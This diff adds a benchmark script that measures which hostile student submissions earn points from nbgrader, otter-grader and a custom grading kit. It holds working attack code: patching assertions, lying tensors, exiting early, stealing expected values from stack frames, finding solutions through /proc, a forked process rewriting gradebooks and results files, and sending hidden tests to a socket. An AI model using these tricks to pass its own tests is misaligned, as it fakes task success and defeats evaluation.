@@ -1,0 +1,369 @@
+"""Which attacks of a submission earn points from stock nbgrader, from otter-grader and from this kit.
+
+One function, `double`, with two hidden tests of a point each, stated as each grader's documentation advises.
+Otter runs in a virtual environment of its own under the temporary folder. Writes docs/security.md.
+"""
+
+from __future__ import annotations
+
+import json
+import platform
+import shutil
+import socket
+import subprocess
+import sys
+import sysconfig
+import tempfile
+import textwrap
+import time
+import venv
+import zipfile
+from collections.abc import Mapping
+from datetime import date
+from importlib.metadata import version
+from pathlib import Path
+
+import nbformat
+from stock_nbgrader import StockCourse, grade_cell, solution_cell
+
+from autograder.executor import LocalPool
+from autograder.jobs import Job
+from autograder.kit import Kit
+
+_LESSON = "01_double"
+_FULL = 2.0
+_AFTERWARDS = 12  # seconds that a process which outlives its grader is given
+_RIGHT = "def double(x):\n    return x + x\n"
+_WRONG = "\n\ndef double(x):\n    return x * 0\n"
+_LINE = """\
+x = torch.tensor([1.0, -2.0, 3.5])
+expected = torch.tensor([2.0, -4.0, 7.0])
+torch.testing.assert_close(double(x), expected)
+"""
+_SQUARE = """\
+x = torch.randn(3, 2)
+torch.testing.assert_close(double(x), x + x)
+"""
+_KIT = {
+    "grading.yml": f"""\
+limits: {{seconds: 2, memory_mb: 256, import_seconds: 5}}
+devices: [cpu]
+lessons:
+  - name: {_LESSON}
+    title: Double
+    functions: [{{name: double, points: {_FULL}}}]
+""",
+    f"solutions/{_LESSON}/double.py": _RIGHT,
+    f"tests/lessons/{_LESSON}/test_double.py": '''\
+import torch
+
+from autograder.judge import graded
+
+
+@graded("double")
+def test_line(compare, draw):
+    """Each entry of a vector is doubled."""
+    compare.call(draw.normal(3))
+
+
+@graded("double")
+def test_square(compare, draw):
+    """Each entry of a matrix is doubled."""
+    compare.call(draw.normal(3, 2))
+''',
+}
+_CALLERS = """\
+import ast, inspect, sys, textwrap
+
+def callers():
+    frame = sys._getframe(1)
+    while frame is not None:
+        yield frame
+        frame = frame.f_back
+"""
+ATTACKS: dict[str, tuple[str, str]] = {
+    "right": ("solves the exercise (no attack)", _RIGHT),
+    "wrong": ("solves nothing and attacks nothing", _WRONG),
+    "compare": (
+        "replaces `torch.testing.assert_close`",
+        "import torch.testing\ntorch.testing.assert_close = lambda *args, **kwargs: None" + _WRONG,
+    ),
+    "liar": (
+        "returns a tensor whose operators say that it equals everything",
+        """\
+import torch
+
+class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func.__name__ in ("isclose", "eq", "ne", "allclose"):
+            return torch.tensor(True)
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def double(x):
+    return torch.zeros_like(x).as_subclass(Liar)
+""",
+    ),
+    "exit": ("ends its process with status 0", "import os\n\ndef double(x):\n    os._exit(0)\n"),
+    "system_exit": ("raises `SystemExit(0)`", "def double(x):\n    raise SystemExit(0)\n"),
+    "mutate": (
+        "zeroes its input, which the test reads next",
+        "def double(x):\n    x.zero_()\n    return x.clone()\n",
+    ),
+    "frames": (
+        "reads `expected` in the frames of its callers",
+        _CALLERS
+        + """
+def double(x):
+    for frame in callers():
+        for names in (frame.f_locals, frame.f_globals):
+            if "expected" in names:
+                return names["expected"]
+    return x * 0
+""",
+    ),
+    "source": (
+        "reads the text of the test in its caller's frame and evaluates what is expected",
+        _CALLERS
+        + """
+def double(x):
+    for frame in callers():
+        try:
+            text = inspect.getsource(frame.f_code)
+            tree = ast.parse(textwrap.dedent(text))
+        except (OSError, TypeError, SyntaxError):
+            continue
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("assert_close"):
+                return eval(ast.unparse(node.args[1]), frame.f_globals, frame.f_locals)
+    return x * 0
+""",
+    ),
+    "transformer": (
+        "has IPython empty each cell that follows",
+        "try:\n    get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
+        "except NameError:\n    pass\n" + _WRONG,
+    ),
+    "traceback": (
+        "silences IPython's `showtraceback`",
+        "try:\n    get_ipython().showtraceback = lambda *args, **kwargs: None\n"
+        "    get_ipython()._showtraceback = lambda *args, **kwargs: None\n"
+        "except NameError:\n    pass\n" + _WRONG,
+    ),
+    "solution": (
+        "finds the solution on the disk, through the working directories of other processes",
+        """\
+import glob, os
+
+def double(x):
+    tops = {os.getcwd()}
+    for link in glob.glob("/proc/[0-9]*/cwd"):
+        try:
+            tops.add(os.readlink(link))
+        except OSError:
+            pass
+    for top in tops - {"/"}:
+        for path in glob.glob(top + "/source/01_double/*.ipynb") + glob.glob(top + "/solutions/*/double.py"):
+            text = open(path).read()
+            if "return x + x" in text:
+                return x + x
+    return x * 0
+""",
+    ),
+    "outlive": (
+        "leaves a process behind that writes marks once the grader is done",
+        f"""\
+import glob, json, os, sqlite3, time
+
+def work():
+    end = time.time() + {_AFTERWARDS - 2}
+    while time.time() < end:
+        time.sleep(0.5)
+        for link in glob.glob("/proc/[0-9]*/cwd"):
+            try:
+                top = os.readlink(link)
+                words = open(link[:-3] + "cmdline").read().split(chr(0))
+                book = os.path.join(top, "gradebook.db")
+                if os.path.exists(book):
+                    with sqlite3.connect(book, timeout=0.2) as database:
+                        database.execute(
+                            "UPDATE grade SET manual_score = 1 WHERE notebook_id IN (SELECT n.id FROM "
+                            "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
+                            "WHERE a.student_id = 'outlive')"
+                        )
+                if "-o" in words:
+                    TARGETS.add(os.path.join(words[words.index("-o") + 1], "results.json"))
+            except (OSError, sqlite3.Error):
+                continue
+        for path in TARGETS:
+            if os.path.exists(path):
+                report = json.load(open(path))
+                for test in report["tests"]:
+                    if "max_score" in test:
+                        test["score"] = test["max_score"]
+                json.dump(report, open(path, "w"))
+
+TARGETS = set()
+
+def double(x):
+    if os.fork() == 0:
+        os.setsid()
+        work()
+        os._exit(0)
+    return x * 0
+""",
+    ),
+    "network": (
+        "sends the text of the hidden tests to another machine",
+        _CALLERS
+        + """
+import socket
+
+def double(x):
+    for frame in callers():
+        try:
+            text = inspect.getsource(frame.f_code)
+        except (OSError, TypeError):
+            continue
+        with socket.create_connection(("127.0.0.1", PORT), 1) as channel:
+            channel.sendall(text.encode())
+        if "assert_close" in text:
+            break
+    return x * 0
+""",
+    ),
+}
+
+
+class Listener:
+    """Where the attack over the network sends the tests."""
+
+    def __init__(self) -> None:
+        self._socket = socket.create_server(("127.0.0.1", 0), backlog=100)
+        self._socket.settimeout(0.2)
+        self.port = self._socket.getsockname()[1]
+
+    def heard(self) -> bool:
+        """Whether a hidden test has come since the last time."""
+        text = b""
+        while True:
+            try:
+                with self._socket.accept()[0] as channel:
+                    while piece := channel.recv(2**16):
+                        text += piece
+            except TimeoutError:
+                return b"assert_close" in text or b"compare.call" in text
+
+
+def grade_with_kit(root: Path, sources: Mapping[str, str]) -> dict[str, float]:
+    for name, text in _KIT.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    with LocalPool(Kit(root), [_LESSON], ["cpu"], 1) as pool:
+        scores = {name: pool.grade(Job(_LESSON, 1, text.encode())).score for name, text in sources.items()}
+        time.sleep(_AFTERWARDS)
+        return scores
+
+
+def grade_with_nbgrader(root: Path, kit: Kit, sources: Mapping[str, str]) -> dict[str, float]:
+    root.mkdir()
+    cells = [solution_cell(_RIGHT)]
+    for name, test in (("line", _LINE), ("square", _SQUARE)):
+        hidden = f"import torch\n### BEGIN HIDDEN TESTS\n{test}### END HIDDEN TESTS"
+        cells.append(grade_cell(hidden, name, _FULL / 2))
+    course = StockCourse(root, kit.registry.lesson(_LESSON), cells)
+    course.submit(sources)
+    course.autograde(strict=False)
+    time.sleep(_AFTERWARDS)
+    return course.scores()
+
+
+def grade_with_otter(root: Path, sources: Mapping[str, str]) -> tuple[str, dict[str, float]]:
+    """The version, and the scores. Raises `CalledProcessError` where Otter can't be installed."""
+    environment = root / "environment"
+    venv.create(environment, with_pip=True)
+    python = environment / "bin" / "python"
+    subprocess.run([python, "-m", "pip", "install", "--quiet", "otter-grader[grading]"], check=True)
+    # torch is this environment's; what Otter needs comes first and is its own.
+    packages = next((environment / "lib").glob("python*/site-packages"))
+    (packages / "torch.pth").write_text(sysconfig.get_path("purelib"))
+    tests = "".join(
+        f"\n\n@test_case(points={_FULL / 2:g}, hidden=True)\ndef test_{name}(double):\n"
+        + textwrap.indent(f"import torch\n{text}", "    ")
+        for name, text in (("line", _LINE), ("square", _SQUARE))
+    )
+    with zipfile.ZipFile(root / "autograder.zip", "w") as archive:
+        archive.writestr("otter_config.json", json.dumps({"lang": "python"}))
+        head = 'from otter.test_files import test_case\n\nOK_FORMAT = False\nname = "double"\npoints = None\n'
+        archive.writestr("tests/double.py", head + tests)
+    command = [environment / "bin" / "otter", "run", "-a", root / "autograder.zip"]
+    scores = {}
+    for name, source in sources.items():
+        folder = root / name
+        folder.mkdir()
+        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
+        notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
+        nbformat.write(notebook, folder / "double.ipynb")
+        subprocess.run(
+            [*command, "-o", folder, folder / "double.ipynb"], capture_output=True, timeout=300, cwd=folder
+        )
+        if name == "outlive":
+            time.sleep(_AFTERWARDS)
+        results = folder / "results.json"
+        found = json.loads(results.read_text())["tests"] if results.exists() else []
+        scores[name] = float(sum(test.get("score") or 0 for test in found))
+    query = [python, "-c", "import importlib.metadata as m; print(m.version('otter-grader'))"]
+    return subprocess.run(query, capture_output=True, text=True, check=True).stdout.strip(), scores
+
+
+def main() -> None:
+    listener = Listener()
+    sources = {name: text.replace("PORT", str(listener.port)) for name, (_, text) in ATTACKS.items()}
+    root = Path(tempfile.mkdtemp(prefix="bench-security-"))
+    columns: dict[str, dict[str, str]] = {}
+    try:
+        scores = grade_with_kit(root / "kit", sources)
+        columns["this kit"] = _told(scores, listener)
+        scores = grade_with_nbgrader(root / "nbgrader", Kit(root / "kit"), sources)
+        columns[f"nbgrader {version('nbgrader')}"] = _told(scores, listener)
+        (root / "otter").mkdir()
+        try:
+            otter, scores = grade_with_otter(root / "otter", sources)
+            columns[f"otter-grader {otter}"] = _told(scores, listener)
+        except subprocess.CalledProcessError as error:
+            columns["otter-grader"] = dict.fromkeys(ATTACKS, f"not run: {error}")
+    finally:
+        shutil.rmtree(root, ignore_errors=True)
+    text = _page(columns)
+    target = Path(__file__).resolve().parents[1] / "docs" / "security.md"
+    target.parent.mkdir(exist_ok=True)
+    target.write_text(text)
+    print(text)
+
+
+def _told(scores: Mapping[str, float], listener: Listener) -> dict[str, str]:
+    told = {name: f"{scores[name]:g}" if name in scores else "no score" for name in ATTACKS}
+    if listener.heard():
+        told["network"] += ", tests sent"
+    return told
+
+
+def _page(columns: Mapping[str, Mapping[str, str]]) -> str:
+    rows = [
+        "# Which attacks a grader lets through",
+        "",
+        f"Made by `make bench-security` on {date.today()} with Python {platform.python_version()}, "
+        f"torch {version('torch')}, on {sys.platform}: the points, of {_FULL:g}, that each submission got. "
+        "All but the first compute nothing and have earned 0. The function returns twice its input; two "
+        "hidden tests hold a point each, written as each grader's documentation advises.",
+        "",
+        "| the submission | " + " | ".join(columns) + " |",
+        "| --- |" + " --- |" * len(columns),
+    ]
+    for name, (about, _) in ATTACKS.items():
+        rows.append(f"| {about} | " + " | ".join(column[name] for column in columns.values()) + " |")
+    return "\n".join(rows) + "\n"
+
+
+if __name__ == "__main__":
+    main()
